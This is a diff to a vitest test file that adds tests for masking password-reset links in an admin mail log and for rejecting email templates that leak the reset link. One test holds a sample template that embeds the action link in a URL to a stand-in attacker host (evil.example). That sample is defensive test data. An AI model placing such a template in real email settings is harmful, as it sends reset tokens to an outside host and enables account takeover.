@@ -1,7 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { startMailServer, type MailServer } from '../support/mail-server'
 import { codeOf } from '../support/refused'
-import { firstAdmin, member, signedUp } from '../support/people'
+import { firstAdmin, mailedToken, member, signedUp, testPassword } from '../support/people'
 import { saveSetting } from '../support/settings'
 import { startServer, type TestServer } from '../support/server'
 import { Refused, Session } from '../support/session'
@@ -48,6 +48,49 @@ describe('without a mail server', () => {
     const { mail } = await admin.call('GET /api/admin/mail-log/one', { id: String(kept['id']) })
     expect(mail.text).toContain('/not-me')
     expect(JSON.stringify(mail)).not.toMatch(/#[0-9a-f]{64}/)
+  })
+
+  it('hides the links into an admin’s account, also at an address that the admin has no more (S26)', async () => {
+    const other = await member(server)
+    const email = other.grant?.email ?? ''
+    await admin.call('POST /api/admin/roles', { user: other.userId, role: 'admin', granted: true, password: testPassword })
+    const guest = new Session(server)
+    await guest.call('POST /api/password/forgot', { email, challenge: await guest.challenge('login') })
+    const kept = await rowOf(server, email, 'reset-password')
+    expect(String(kept['text'])).toMatch(/reset-password#[0-9a-f]{64}/)
+    const read = async (id: unknown) => JSON.stringify((await admin.call('GET /api/admin/mail-log/one', { id: String(id) })).mail)
+    expect(await read(kept['id'])).toContain('/reset-password#…')
+    for (const template of ['verify', 'new-device', 'reset-password']) {
+      const mail = await rowOf(server, email, template)
+      if (mail['id'] !== undefined) expect(await read(mail['id']), template).not.toMatch(/#[0-9a-f]{64}/)
+    }
+    await server.sql(`UPDATE users SET email = 'moved@mail.example' WHERE id = ?`, [other.userId])
+    expect(await read(kept['id'])).not.toMatch(/#[0-9a-f]{64}/)
+    // a member's link stays readable: without a mail server it is handed on
+    const person = (await member(server)).grant?.email ?? ''
+    await guest.call('POST /api/password/forgot', { email: person, challenge: await guest.challenge('login') })
+    expect(await read((await rowOf(server, person, 'reset-password'))['id'])).toMatch(/reset-password#[0-9a-f]{64}/)
+  })
+
+  it('a letter that lets in is refused with another link, or its link elsewhere; stored words like that aren’t sent (S26)', async () => {
+    const key = 'letter_reset-password'
+    const values = (template: string) => ({ [key]: { subject: 'Known', template, subjectEs: '', templateEs: '' } })
+    const save = async (template: string) =>
+      admin.call('POST /api/admin/settings', { values: values(template), versions: { [key]: await versionOf(server, key) } })
+    const fields = async (template: string) => ((await save(template).catch((error: unknown) => error)) as Refused).body.fields
+    const leaking = '<a href="https://evil.example/p?{{actionLink}}">In</a>'
+    expect(await fields(leaking)).toEqual({ [key]: 'template-link-place' })
+    expect(await fields('<a href="{{actionLink}}">In</a> <a href="https://evil.example">Help</a>')).toEqual({ [key]: 'template-link-other' })
+    await save('<a href="{{actionLink}}">In</a>')
+    // words as they were stored before this rule
+    await server.sql(`UPDATE admin_settings SET setting_value = ?, version = version + 1 WHERE setting_key = ?`, [JSON.stringify(values(leaking)[key]), key])
+    const { session, email } = await signedUp(server)
+    await session.call('POST /api/verify', { token: await mailedToken(server, email, 'verify') })
+    await session.call('POST /api/password/forgot', { email, challenge: await session.challenge('login') })
+    const sent = await rowOf(server, email, 'reset-password')
+    expect(sent['subject']).toBe('Choose a new password')
+    expect(String(sent['html'])).not.toContain('evil.example')
+    await save('')
   })
 
   it('a kept mail is never sent later by itself, and cannot be sent again without a mail server', async () => {
